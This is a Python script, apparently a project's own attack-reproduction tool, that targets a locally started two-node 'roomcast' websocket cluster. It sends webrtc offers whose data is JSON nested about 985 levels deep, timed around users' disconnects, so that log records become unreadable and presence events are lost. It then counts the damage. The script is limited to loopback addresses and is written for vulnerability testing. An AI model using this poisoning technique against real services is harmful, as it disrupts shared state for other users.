"""Measure what one deeply nested ``webrtc`` offer does to a cluster's shared state.

Starts a two-node cluster on this machine's PostgreSQL and Redis (a schema and
key prefix of its own, dropped at the end), or uses running nodes given with
``--nodes`` (open mode). Then, on 127.0.0.1 only and with bounded counts:

1. a bystander and a callee join a room on node B; the attacker (one user)
   joins it from a connection on each node;
2. ``--users`` (10) users, alternating between the nodes, connect, join the
   room and disconnect; just before and just after each close frame, an
   attacker on the same node sends a ``webrtc`` offer whose ``data`` is JSON
   nested ``--depth`` (985) levels deep, about 2 KB, so that the close and an
   offer are appended to the same log record;
3. after ``--wait`` (30) seconds it prints what the attacker was answered, how
   many log records or entries the nodes skipped as unreadable (their logs,
   when it started them, and ``roomcast_log_unreadable_entries_total``), how
   many of the users each node still shows in the room, and how many of their
   presence changes (``user_joined``, ``user_left``, ``presence offline``: 3 a
   user) the bystander missed.

    .venv/bin/python scripts/attacks/poison_log.py
    .venv/bin/python scripts/attacks/poison_log.py --nodes http://127.0.0.1:3001 http://127.0.0.1:3002

The nodes it starts run ``python -m roomcast`` from the current directory, so
to measure another checkout, run it from elsewhere with that checkout first:

    cd /tmp && PYTHONPATH=/path/to/checkout /path/to/.venv/bin/python /path/to/poison_log.py
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import aiohttp

sys.path.insert(0, str(Path(__file__).resolve().parent.parent.parent))

from tests.harness.backends import drop_cluster_state
from tests.harness.server import ServerProcess

ROOM = 4242
CHANGES_PER_USER = 3  # user_joined, user_left, presence offline


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


async def connect(session: aiohttp.ClientSession, base: str, user: str) -> Any:
    ws = await session.ws_connect(f"{base}/ws", params={"user_id": user})
    connected = json.loads((await ws.receive(timeout=10)).data)
    assert connected["type"] == "connected", connected
    return ws


async def join(ws: Any, room: int = ROOM) -> None:
    await ws.send_str(json.dumps({"type": "join_room", "payload": {"room_id": room}}))
    while True:
        frame = json.loads((await ws.receive(timeout=15)).data)
        if frame["type"] == "room_users":
            return


async def collect(ws: Any, frames: list[dict[str, Any]]) -> None:
    """Every text frame ``ws`` receives, until it closes."""
    async for message in ws:
        if message.type is aiohttp.WSMsgType.TEXT:
            frames.append(json.loads(message.data))


async def metric(session: aiohttp.ClientSession, base: str, name: str) -> float | None:
    async with session.get(f"{base}/metrics") as response:
        text = await response.text()
    for line in text.splitlines():
        if line.startswith(name + " ") or line.startswith(name + "{"):
            return float(line.rsplit(" ", 1)[1])
    return None


async def room_users(session: aiohttp.ClientSession, base: str) -> set[str]:
    async with session.get(f"{base}/api/rooms/{ROOM}/users") as response:
        body = await response.json()
    return {entry["user_id"] for entry in body.get("users", [])}


async def attack(bases: list[str], depth: int, users: int, wait: float) -> dict[str, Any]:
    node_a, node_b = bases[0], bases[1]
    tag = uuid.uuid4().hex[:6]
    callee_name = f"callee-{tag}"
    async with aiohttp.ClientSession() as session:
        bystander = await connect(session, node_b, f"bystander-{tag}")
        callee = await connect(session, node_b, callee_name)
        # One attacker with a connection on each node: what a node appends in one
        # loop turn (or while its previous write to Redis is under way) is one record.
        attackers = [await connect(session, base, f"attacker-{tag}") for base in bases]
        for ws in (bystander, callee, *attackers):
            await join(ws)
        seen: list[dict[str, Any]] = []
        heard: list[dict[str, Any]] = []
        tasks = [asyncio.create_task(collect(bystander, seen))]
        tasks += [asyncio.create_task(collect(ws, heard)) for ws in attackers]

        frame = (
            '{"type":"webrtc","payload":{"type":"offer","to_user_id":"'
            + callee_name
            + '","data":'
            + nested(depth)
            + "}}"
        )
        sent = 0
        names = [f"user{i}-{tag}" for i in range(users)]
        for i, name in enumerate(names):
            ws = await connect(session, bases[i % 2], name)
            await join(ws)
            # An offer just before this user's close frame and one just after, on
            # the same node: the close is appended in the same record as one of them.
            attacker = attackers[i % 2]
            await attacker.send_str(frame)
            closing = asyncio.create_task(ws.close())
            await asyncio.sleep(0)
            await attacker.send_str(frame)
            sent += 2
            await closing
            await asyncio.sleep(0.05)

        await asyncio.sleep(wait)
        still: dict[str, int] = {}
        for label, base in (("A", node_a), ("B", node_b)):
            still[label] = len((await room_users(session, base)) & set(names))
        missed = 0
        for name in names:
            kinds = [
                (f["type"], f["payload"].get("status"))
                for f in seen
                if f["payload"].get("user_id") == name
                and f["type"] in ("user_joined", "user_left", "presence")
            ]
            expected = [("user_joined", None), ("user_left", None), ("presence", "offline")]
            missed += sum(1 for change in expected if change not in kinds)
        answers = [f for f in heard if f["type"] in ("error", "call_ringing", "call_ended")]
        unreadable = {
            label: await metric(session, base, "roomcast_log_unreadable_entries_total")
            for label, base in (("A", node_a), ("B", node_b))
        }
        for ws in (bystander, callee, *attackers):
            await ws.close()
        for task in tasks:
            task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await task
    return {
        "frame_bytes": len(frame),
        "sent": sent,
        "answers": answers,
        "still": still,
        "missed": missed,
        "expected": users * CHANGES_PER_USER,
        "unreadable_metric": unreadable,
    }


def log_counts(log: str) -> dict[str, int]:
    return {
        "unreadable log record": log.count("unreadable log record"),
        "unreadable log entry": log.count("unreadable log entry"),
        "log interrupted": log.count("log interrupted"),
        "RecursionError": log.count("RecursionError"),
    }


def report(result: dict[str, Any], logs: dict[str, str], users: int, wait: float) -> None:
    print(f"poison offers sent: {result['sent']} of {result['frame_bytes']} bytes each")
    answers: dict[str, int] = {}
    for frame in result["answers"]:
        key = f"{frame['type']} {json.dumps(frame['payload'])}"
        answers[key] = answers.get(key, 0) + 1
    print(f"  answered: {sum(answers.values())} of {result['sent']}")
    for key, count in answers.items():
        print(f"    {count} x {key}")
    for label, value in result["unreadable_metric"].items():
        shown = "absent" if value is None else f"{value:g}"
        print(f"node {label}: roomcast_log_unreadable_entries_total = {shown}")
    for label, log in logs.items():
        counts = ", ".join(f"{key!r}: {value}" for key, value in log_counts(log).items())
        print(f"node {label} log lines: {counts}")
    for label, count in result["still"].items():
        print(f"node {label}: {count} of {users} users still shown in the room after {wait:g} s")
    print(
        f"bystander missed {result['missed']} of {result['expected']} presence changes "
        f"(user_joined, user_left, presence offline)"
    )


def loopback(url: str) -> str:
    host = urlsplit(url).hostname
    if host not in ("127.0.0.1", "localhost", "::1"):
        raise SystemExit(f"{url}: only nodes on this machine (127.0.0.1) are attacked")
    return url.rstrip("/")


async def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--nodes", nargs=2, metavar="URL", help="two running nodes (http://...)")
    parser.add_argument(
        "--depth",
        type=int,
        default=985,
        help="nesting of the offer's data (985: the first decode of the frame, 2 levels "
        "shallower than its log record, just passes on Python 3.11 with uvloop)",
    )
    parser.add_argument("--users", type=int, default=10, help="users that connect and leave")
    parser.add_argument("--wait", type=float, default=30.0, help="seconds before counting")
    parser.add_argument("--logs", type=Path, help="copy the nodes' logs into this folder")
    args = parser.parse_args()
    if not (1 <= args.users <= 100 and 1 <= args.depth <= 100_000 and 0 <= args.wait <= 120):
        raise SystemExit("--users 1..100, --depth 1..100000, --wait 0..120")
    if args.nodes:
        bases = [loopback(url) for url in args.nodes]
        result = await attack(bases, args.depth, args.users, args.wait)
        report(result, {}, args.users, args.wait)
        return 0
    # The nodes are `python -m roomcast` from the current directory, with this
    # environment: say which code that is (PYTHONPATH picks another checkout,
    # but the current directory comes first).
    where = subprocess.run(
        [sys.executable, "-c", "import roomcast; print(roomcast.__file__)"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    print(f"nodes run {where}")
    cluster = f"t_poison_{uuid.uuid4().hex[:8]}"
    drop_cluster_state(cluster)
    servers: list[ServerProcess] = []
    try:
        with tempfile.TemporaryDirectory() as folder:
            servers = [
                ServerProcess(Path(folder) / f"node{i}.db", cluster=cluster) for i in range(2)
            ]
            await asyncio.gather(*(asyncio.to_thread(server.start) for server in servers))
            await asyncio.sleep(1.0)  # the nodes' snapshot exchange
            started = time.monotonic()
            result = await attack([s.http for s in servers], args.depth, args.users, args.wait)
            logs = {label: server.log() for label, server in zip("AB", servers, strict=True)}
            if args.logs is not None:
                args.logs.mkdir(parents=True, exist_ok=True)
                for label, text in logs.items():
                    (args.logs / f"node-{label}.log").write_text(text)
            print(f"(cluster {cluster}, {time.monotonic() - started:.1f} s)")
            report(result, logs, args.users, args.wait)
    finally:
        for server in servers:
            if server.proc is not None:
                server.stop()
        drop_cluster_state(cluster)
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
